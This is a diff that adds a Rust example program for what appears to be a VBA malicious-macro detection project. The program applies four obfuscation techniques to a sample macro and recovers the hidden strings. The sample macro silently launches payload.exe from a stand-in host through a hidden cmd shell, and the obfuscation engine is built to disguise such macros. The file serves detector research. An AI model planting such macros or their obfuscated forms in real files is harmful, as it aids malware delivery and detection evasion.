@@ -1,0 +1,56 @@
+//! Demonstrate the O1–O4 obfuscation engine and the recovery oracle: apply
+//! each technique to a sample macro, show the result, and prove semantic
+//! preservation by statically re-evaluating the hidden strings.
+//!
+//! ```sh
+//! cargo run --release --example obfuscate_macro
+//! ```
+
+use rand::SeedableRng;
+use vbadet_obfuscate::{recover, Obfuscator, Technique};
+
+const SAMPLE: &str = "Sub Fetch()\r\n\
+                      \x20   Dim target As String\r\n\
+                      \x20   target = \"http://example.test/payload.exe\"\r\n\
+                      \x20   Shell \"cmd /c start \" & target, vbHide\r\n\
+                      End Sub\r\n";
+
+fn show(title: &str, technique: Technique) {
+    let mut rng = rand::rngs::StdRng::seed_from_u64(0xD5);
+    let result = Obfuscator::new().with(technique).apply(SAMPLE, &mut rng);
+    println!("=== {title} ===");
+    for line in result.source.lines().take(12) {
+        println!("    {line}");
+    }
+    if result.source.lines().count() > 12 {
+        println!("    … ({} lines total)", result.source.lines().count());
+    }
+    let recovered = recover::recover_strings(&result.source);
+    if let Some(url) = recovered.iter().find(|s| s.starts_with("http://")) {
+        println!("  recovered hidden string: {url:?}");
+    }
+    println!();
+}
+
+fn main() {
+    println!("original:\n{SAMPLE}");
+    show("O1 random obfuscation", Technique::Random);
+    show("O2 split obfuscation", Technique::Split);
+    show("O3 encoding obfuscation", Technique::Encoding);
+    show("O4 logic obfuscation", Technique::LogicWithIntensity(8));
+
+    // Composition, as the corpus generator uses it.
+    let mut rng = rand::rngs::StdRng::seed_from_u64(1);
+    let full = Obfuscator::new()
+        .with(Technique::Split)
+        .with(Technique::Encoding)
+        .with(Technique::LogicWithIntensity(20))
+        .with(Technique::Random)
+        .apply(SAMPLE, &mut rng);
+    println!(
+        "O2+O3+O4+O1 composed: {} chars (from {}), techniques {:?}",
+        full.source.len(),
+        SAMPLE.len(),
+        full.applied
+    );
+}
